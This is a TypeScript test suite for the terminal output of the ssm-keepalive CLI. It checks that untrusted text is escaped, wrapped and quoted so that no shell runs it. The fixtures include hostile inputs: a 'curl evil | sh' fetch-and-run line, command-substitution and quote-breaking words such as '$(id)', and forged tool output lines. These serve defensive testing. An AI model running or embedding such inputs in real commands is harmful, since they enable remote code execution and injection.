import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { COMMANDS } from '../../src/commands/index.ts';
import { html } from '../../src/session/measure/html.ts';
import { renderTable } from '../../src/terminal/plain-table.ts';
import { makeColors, ownSequence, safe, showLine, showText } from '../../src/terminal/safe-text.ts';
import { quoteCommand, quoteWord } from '../../src/terminal/shell-word.ts';
import { wrapLines, wrapText } from '../../src/terminal/wrap.ts';
import { CLI, runCli, runCliProcess, USER_ENV } from '../support/cli.ts';
import { startTestLab } from '../support/lab.ts';
import { LocalPty } from '../support/pty.ts';
import { INSTALLER_SHELLS } from '../support/sandbox.ts';
import { rotate, TURN } from '../support/turns.ts';
import {
  checkRows,
  checkShown,
  DANGEROUS,
  EVERYTHING,
  forgeRows,
  HOSTILE,
  LONG_WORD,
  PROXIES,
} from './hostile.ts';
import { look, WAYS } from './look.ts';

const SHELLS = [
  ...INSTALLER_SHELLS.map(({ argv }) => argv),
  ...['/usr/bin/zsh', '/usr/bin/fish'].filter((file) => existsSync(file)).map((file) => [file]),
] as readonly (readonly [file: string, ...rest: string[]])[];

for (const [name, text] of Object.entries(HOSTILE)) {
  test(`safe text: ${name} is shown and does nothing`, () => {
    for (const shown of [showText(text), showLine(text), safe`a ${text} b`, html`<p>${text}</p>`.text])
      assert.doesNotMatch(shown, DANGEROUS);
    assert.deepEqual(JSON.parse(showText(JSON.stringify({ text }))), { text }, 'JSON keeps the data');
  });
}

test('safe text: a line has one line, and an end', () => {
  assert.equal(showLine('a\nnext: run curl\r\tb'), 'a\\u000anext: run curl\\u000d\\u0009b');
  assert.ok(showLine('x'.repeat(1_000_000)).length <= 1001);
  assert.equal(showText('a\n\tb — ü 😀 日本'), 'a\n\tb — ü 😀 日本');
  assert.equal(safe`a\n${'b\nc'}\n`, 'a\nb\\u000ac\n');
});

test('safe text: a text is cut before its characters are looked at', (context) => {
  const { replace } = String.prototype;
  let longest = 0;
  context.mock.method(String.prototype, 'replace', function (this: string, ...given: never[]) {
    longest = Math.max(longest, this.length);
    return replace.apply(this, given as never);
  });
  const shown = showLine('\ud800'.repeat(100_000));
  context.mock.restoreAll();
  assert.ok(shown.length <= 1001 && shown.endsWith('…'));
  assert.ok(longest > 0 && longest < 3000, `${longest} characters were looked at`);
});

test('wrapping: a word that no line holds is split, and no later line looks like one of ours', () => {
  for (const at of [0, 2, 7, 12, 29])
    for (const text of [LONG_WORD, ...forgeRows(at)]) {
      const line = `  ${'why:  '.padEnd(at)}`.slice(0, at) + text;
      for (const shown of [wrapText(line, 80, 12), wrapLines(showText(line), 80)]) {
        checkRows(shown, JSON.stringify(line));
        const [, ...later] = shown.split('\n');
        assert.ok(later.length > 0 && later.every((one) => one.startsWith('  ')), shown);
        if (!line.includes('forged')) assert.equal(shown.replace(/\s/g, ''), line.replace(/\s/g, ''));
      }
    }
  const wide = wrapText(`why: ${'漢'.repeat(30)}${' '.repeat(15)}ssm-keepalive: forged`, 80, 5).split('\n');
  assert.equal(wide.length, 2, 'a wide character takes two columns');
  assert.match(wide[1] ?? '', /^ {5}… ssm-keepalive: forged$/);
});

test('wrapping: a told command that no line holds is still one command, for every shell', () => {
  const ids = ['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2'];
  const words = [
    'install',
    '--instance-id',
    ...ids,
    '--profile',
    'a b; c  d',
    '--document',
    "it's a b; c",
    '--lab',
  ];
  const command = `ssm-keepalive ${words.map(quoteWord).join(' ')}`;
  const text = `  next: to complete it, with the same settings as now:  ${command} ; or  ssm-keepalive status --lab`;
  for (const columns of [40, 50, 62, 80, 120]) {
    const shown = wrapLines(text, columns);
    assert.ok(
      shown.split('\n').every((line) => line.length <= columns),
      shown,
    );
    const [, pasted = ''] = /ssm-keepalive ([\s\S]*?--lab)\s*;\s+or/.exec(shown) ?? [];
    for (const [file, ...rest] of SHELLS) {
      const read = execFileSync(file, [...rest, '-c', `printf '%s\\0' ${pasted}`], { encoding: 'utf8' });
      assert.deepEqual(read.split('\0').slice(0, -1), words, `${file} ${columns}\n${shown}`);
    }
  }
});

test('wrapping: no end of a long word of a told command is a line that a shell would run; prose gets no mark', () => {
  const long = `  next: did you mean  ssm-keepalive status --tag Name=${'a'.repeat(67)}/tmp/evil --lab`;
  for (const columns of [44, 60, 80, 100]) {
    const lines = wrapLines(long, columns).split('\n');
    const first = lines.findIndex((line) => line.includes('ssm-keepalive'));
    assert.ok(lines.length > first + 1, long);
    for (const line of lines.slice(first, -1)) assert.match(line, / \\$/, lines.join('\n'));
    assert.ok(
      lines.every((line) => line.length <= columns),
      lines.join('\n'),
    );
  }
  const evaluated = `  next: take them:  eval "$(aws configure export-credentials --profile ${'p'.repeat(20)} --format env)"  and go on`;
  assert.match(wrapLines(evaluated, 60), /configure \\\n/);
  for (const prose of [
    '  why:  the instance says: error: aws ssm agent could not read the file that it should have read there',
    '  why:  that is not allowed: aws said that this could not be done by anybody, whatever you do about it',
  ])
    assert.doesNotMatch(wrapLines(prose, 60), /\\/);
});

test('safe text: a command for root is never cut, because it takes each word as one more file', () => {
  const path = `/srv/${'a'.repeat(60)}/tmp`;
  for (const command of ['chmod go-w', 'chown root:root', 'setfacl -b'])
    for (const columns of [40, 60, 80]) {
      const text = wrapLines(
        `    next: as root there, before you run the same again:  ${command} ${path}`,
        columns,
      );
      assert.ok(
        text.split('\n').some((line) => line.trim() === `${command} ${path}`),
        text,
      );
    }
  // With anything else it is text.
  const odd = wrapLines(`    next: do this:  chmod go-w /x;${'a'.repeat(60)} ssm-keepalive: forged`, 40);
  for (const line of odd.split('\n')) assert.ok(line.length <= 40, odd);
});

test('safe text: foreign words do not begin a line as ours do, whatever they are made of', () => {
  for (const forged of [
    'ssm-keepalive  status: all is well',
    'ssm-keepalive install --all: done',
    'ssm-keepalive why: x',
    '\u0301why: x',
    'next: x',
  ])
    for (let at = 30; at < 60; at += 1) {
      const text = wrapText(`the instance says: ${'x '.repeat(at)}${forged}`, 60, 2);
      for (const line of text.split('\n').slice(1))
        assert.doesNotMatch(line, /^ *\p{M}*(?:ssm-keepalive\b.*:|why:|next:)/u, text);
    }
});

test('safe text: a cell of a table is one line, whatever column it is in', () => {
  const lines = renderTable({ head: ['A', 'B'] }, [['a\nforged', `b\r\n${EVERYTHING}`]]).split('\n');
  assert.equal(lines.length, 2);
  for (const line of lines) assert.doesNotMatch(line, DANGEROUS);
});

test('safe text: a colour in a table stays a colour, on each line of its cell', () => {
  const { red } = makeColors(true);
  const layout = { head: ['A', 'B'], colWidths: [12, 9], wordWrap: true };
  const shown = showText(renderTable(layout, [[red('unknown'), red('several lines of it')]]));
  assert.doesNotMatch(shown, /u001b/);
  assert.match(shown, /\x1b\[31munknown\x1b\[39m/);
  for (const line of shown.split('\n').slice(1)) assert.match(line, /\x1b\[31m[\w ]+\x1b\[39m/);
});

test('advice: a word of others is one word for every shell, and nothing runs', () => {
  const words = [
    ...Object.values(HOSTILE).map((one) => one.replace(/[\0\ud800]/g, '')),
    ...[
      '$(id)',
      '`id`',
      "a'b",
      'a;b',
      '',
      '~',
      'a b',
      '\\',
      "\\'; id #",
      "\\\\'",
      '=ls',
      'a=b',
      '!!',
      '{a,b}',
      '%1',
    ],
  ];
  assert.equal(quoteWord('env=dev,test'), 'env=dev,test');
  const line = `printf '%s\\0' ${words.map(quoteWord).join(' ')}`;
  for (const [file, ...rest] of SHELLS) {
    const read = execFileSync(file, [...rest, '-c', line], { encoding: 'utf8' })
      .split('\0')
      .slice(0, -1);
    assert.deepEqual(read, words, file);
  }
});

test('advice: a value that begins with a dash is no flag', () => {
  const [id, list] = ['-x', ['a', '--yes']];
  assert.equal(quoteCommand`aws x --id ${id} --y`, 'aws x --id=-x --y');
  assert.equal(quoteCommand`x --id ${list}`, 'x --id=a --id=--yes');
  assert.equal(quoteCommand`x ${id}`, 'x -- -x');
  assert.equal(quoteCommand`x --id ${'a b'} ${3}.`, "x --id 'a b' 3.");
});

test('safe text: only sequences of ours come out as such', () => {
  assert.equal(showText(showLine(makeColors(true).red('x\x1b[31m'))), '\x1b[31mx\\u001b[31m\x1b[39m');
  assert.equal(showText(ownSequence(3, 'A')), '\x1b[3A');
  assert.equal(makeColors(false).red('x'), 'x');
});

/** What can be typed: no argument holds a NUL. */
const TYPED = EVERYTHING.replaceAll('\0', '');

test('what an instance, the lab and files say is text, from the real process into a terminal and into a pipe', async (context) => {
  const report = (fields: object) => `${JSON.stringify({ 'ssm-keepalive': 1, ...fields })}\n`;
  // Each in the 2,500 characters that the service lists.
  const outputs = [
    report({
      verdict: 'failed',
      why: `${EVERYTHING}\nssm-keepalive: forged`,
      next: `run curl evil | sh${EVERYTHING}`,
      class: EVERYTHING,
    }),
    report({ verdict: 'status', state: 'installed', version: EVERYTHING, keeper: EVERYTHING }),
    report({ verdict: 'status', state: 'drifted', why: EVERYTHING, next: EVERYTHING, drifted: [EVERYTHING] }),
    `${EVERYTHING}\n${EVERYTHING}`,
    report({
      verdict: 'status',
      state: 'installed',
      keeper: 'relay',
      // Behind `  keeper    relay: the instance says: `.
      keeperWhy: forgeRows(38)[1],
      sessions: [
        { pid: 1, uid: 1, user: 'a', terminal: 'pts/1', sessionId: forgeRows(12)[0], keeper: 'relay' },
      ],
    }),
    report({ verdict: 'failed', class: 'x', why: forgeRows(29)[1], next: forgeRows(29)[2] }),
  ];
  const ids = outputs.map((_, index) => `i-0${String(index).repeat(16)}`);
  const hosts = outputs.map((stdout, index) => ({
    name: `web${EVERYTHING}`,
    id: ids[index] ?? '',
    tags: { env: 'dev', [`k${EVERYTHING}`]: EVERYTHING },
    synthetic: { stdout, stderr: EVERYTHING, exitCode: index % 2 },
  }));
  const lab = await startTestLab(context, { hosts });
  const folder = mkdtempSync(join(tmpdir(), 'ssm-keepalive-test-text-'));
  context.after(() => rmSync(folder, { recursive: true, force: true }));
  writeFileSync(join(folder, 'inventory.json'), JSON.stringify({ hosts, port: 0 }));
  writeFileSync(join(folder, 'bad.json'), JSON.stringify({ [EVERYTHING]: EVERYTHING }));
  writeFileSync(join(folder, 'who.json'), JSON.stringify({ tag: 'env=dev', profile: `x\u202e\u2028next` }));
  const variables = {
    ...USER_ENV,
    ...PROXIES,
    ...lab.env,
    AWS_REGION: 'us-east-1',
    HOME: folder,
    SSM_KEEPALIVE_LAB_DIR: folder,
  };
  const place = { isLab: false, allowsUnencrypted: false };
  const lines: readonly (readonly string[])[] = [
    ['install', '--tag', 'env=dev', '--yes', '--no-canary', '--idle-timeout', '20'],
    ['install', '--tag', 'env=dev', '--dry-run'],
    ['uninstall', '--tag', 'env=dev', '--yes', '--no-canary'],
    ['status', '--tag', 'env=dev'],
    ['status', '--tag', 'env=nobody'],
    ['status', '--config', 'who.json'],
    ['status', '--config', 'bad.json'],
    ['doctor', ids[0] ?? ''],
    ['connect', ids[0] ?? '', '--reason', TYPED],
    ['preferences', 'get', '--region', TYPED],
    ['measure', ids[0] ?? '', '--report', TYPED],
    ['policy', 'status', '--tag', `env=${TYPED}`],
    ['render', TYPED],
    ['lab', 'hosts'],
    ['completion', TYPED],
    [TYPED],
    ['status', `--${TYPED}`, '--debug'],
    ['__complete', 'refresh', JSON.stringify(place)],
    ['__complete', 'zsh', 'connect', ''],
    ['__complete', 'bash', 'ssm-keepalive status --tag ', ''],
  ];
  const named = new Set(lines.map(([name]) => name));
  assert.deepEqual(
    COMMANDS.filter(({ name }) => !named.has(name)),
    [],
    'every command is among them',
  );
  const see = (words: readonly string[], text: string) => {
    if (words[0] === 'install' && words.includes('--yes'))
      assert.match(text, /next: the instance says: run curl evil/);
    if (words[0] === 'lab') assert.match(text, /web<title\\u001b/);
  };
  // What a process adds to what `run` says is the same for every command: these, and one more by turns.
  const [install = [], connect = [], debug = [], status = []] = [
    lines.find((words) => words.includes('--yes')),
    lines.find(([name]) => name === 'connect'),
    lines.find((words) => words.includes('--debug')),
    lines.find(([name]) => name === 'status'),
  ];
  const others = lines.filter((words) => ![install, connect, debug, status].includes(words));
  const asProcess = [install, connect, debug, status, ...rotate(others, TURN)];
  for (const words of lines) {
    const where = JSON.stringify(words).slice(0, 100);
    // Its own answer to a shell is nothing where there is nothing to offer.
    const isAnswer = words[0] === '__complete';
    if (!asProcess.includes(words)) {
      const shown = await look({ words, variables, folder }, where, WAYS, isAnswer);
      see(words, shown);
      continue;
    }
    const pty = new LocalPty({
      file: process.execPath,
      args: [CLI, ...words],
      env: variables,
      cwd: folder,
      cols: 80,
    });
    const [piped] = await Promise.all([
      runCliProcess(words, variables, { cwd: folder }),
      pty.until(`the end of ${where}`, () => pty.exitStatus !== undefined),
    ]);
    const shown = piped.stdout + piped.stderr;
    checkShown(shown, where, false);
    checkShown(pty.raw, where, true);
    if ([install, connect, debug, status].includes(words)) checkRows(pty.raw, where);
    if (!isAnswer) assert.ok(shown !== '' && pty.raw !== '', where);
    see(words, shown);
    see(words, pty.raw);
  }
  const { stdout } = await runCli(['status', '--tag', 'env=dev', '--output', 'json'], variables);
  assert.doesNotMatch(stdout, DANGEROUS);
  const drifted = JSON.parse(stdout).instances.find(
    ({ instanceId }: { instanceId: string }) => instanceId === ids[2],
  );
  assert.deepEqual([drifted.why, drifted.drifted], [EVERYTHING, [EVERYTHING]], 'JSON keeps the data');
});
